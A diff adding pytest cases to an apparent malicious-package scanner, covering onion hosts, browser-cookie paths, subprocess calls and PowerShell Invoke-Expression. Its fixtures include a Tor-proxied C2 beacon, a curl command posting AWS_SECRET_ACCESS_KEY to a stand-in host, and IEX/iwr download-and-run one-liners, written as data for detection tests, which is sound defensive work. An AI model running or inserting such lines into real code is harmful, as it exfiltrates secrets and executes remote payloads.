@@ -670,3 +670,134 @@ def test_the_same_store_named_after_a_web_address_in_one_file_is_still_found():
     result = scan({"setup.py": SETUP, "demo/__init__.py": "import os\n" + both})
     [path] = found(result, "capability.credential-path")
     assert "discord" in path.evidence.lower() and path.line > 10
+
+
+# -- an onion name listed as data is a name; reached through Tor it is a hidden host --------
+
+_ONION = "abcdefghijklmnop234567abcdefghijklmnop234567abcdefghij.onion"
+
+
+def test_a_sites_onion_mirror_listed_as_data_is_only_named():
+    src = f"""
+    class Extractor:
+        _TESTS = [{{"url": "https://www.{_ONION}/news/1", "only_matching": True}}]
+
+        def extract(self, url):
+            return self.download_webpage(url)
+    """
+    [onion] = found(scan({"setup.py": SETUP, "demo/__init__.py": src}), "indicator.onion")
+    assert onion.severity == "medium"
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        f"""
+        import requests
+
+        def beacon(data):
+            requests.post("http://{_ONION}/gate", data=data)
+        """,
+        f"""
+        import requests
+        C2 = "http://{_ONION}/gate"
+        PROXIES = {{"http": "socks5h://127.0.0.1:9050"}}
+
+        def beacon(data):
+            requests.post(C2, data=data, proxies=PROXIES)
+        """,
+    ],
+)
+def test_an_onion_host_the_code_reaches_is_still_high(src):
+    [onion] = found(scan({"setup.py": SETUP, "demo/__init__.py": src}), "indicator.onion")
+    assert onion.severity == "high"
+
+
+# -- a Request object is built, not sent; the program a process runs is not data sent ------
+
+_COOKIE_JAR = """
+import os
+import urllib.request
+
+BROWSER = os.path.expanduser("~/.config/chromium/Local State")
+
+def cookie_header(jar, url):
+    return jar.header_for(urllib.request.Request(url))
+"""
+
+
+def test_building_a_request_object_is_not_talking_to_the_network():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _COOKIE_JAR})
+    assert not found(result, "intent.credential-theft")
+    assert result.verdict not in FLAGGED
+
+
+def test_a_request_object_sent_with_urlopen_still_is():
+    src = (
+        _COOKIE_JAR
+        + "\n\ndef send(url):\n    return urllib.request.urlopen(urllib.request.Request(url))\n"
+    )
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    assert found(result, "intent.credential-theft")
+
+
+_TOOL_RUNNER = """
+import os
+import subprocess
+import sys
+
+subprocess.check_call([os.environ.get("TOOL_PYTHON", sys.executable), "-m", "pip", "install", "x"])
+"""
+
+
+def test_where_the_program_path_came_from_is_not_sent():
+    result = scan({"setup.py": SETUP, "demo/__init__.py": _TOOL_RUNNER})
+    assert found(result, "intent.download-execute")  # installing at import is still said
+    assert not found(result, "intent.exfiltration")
+
+
+def test_the_environment_in_a_commands_arguments_is_still_sent():
+    src = """
+    import os
+    import subprocess
+
+    subprocess.run(["curl", "-d", os.environ["AWS_SECRET_ACCESS_KEY"], "https://collector.example/x"])
+    """
+    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
+    [sent] = found(result, "intent.exfiltration")
+    assert sent.severity == "critical"
+
+
+# -- PowerShell's eval: of fetched or decoded text, not of a profile being dot-sourced ------
+
+
+def test_dot_sourcing_a_profile_with_invoke_expression_is_not_a_download():
+    src = """
+    import subprocess
+
+    def spawn_shell(rc_path):
+        subprocess.call(["powershell", "-NoLogo", "-NoExit", "-Command",
+                         f"Invoke-Expression '. ''{rc_path}'''"])
+    """
+    result = scan({"setup.py": SETUP, "demo/shells.py": src, "demo/__init__.py": ""})
+    assert not found(result, "intent.shell-download-execute")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
+        "iwr https://x.example/a.ps1 | iex",
+        "Invoke-Expression (irm https://x.example/a.ps1)",
+        "IEX $decoded",
+    ],
+)
+def test_invoke_expression_of_fetched_or_hidden_text_is_still_found(command):
+    src = f"""
+    import subprocess
+
+    def run():
+        subprocess.call(["powershell", "-Command", {command!r}])
+    """
+    result = scan({"setup.py": SETUP, "demo/run.py": src, "demo/__init__.py": ""})
+    assert found(result, "intent.shell-download-execute")
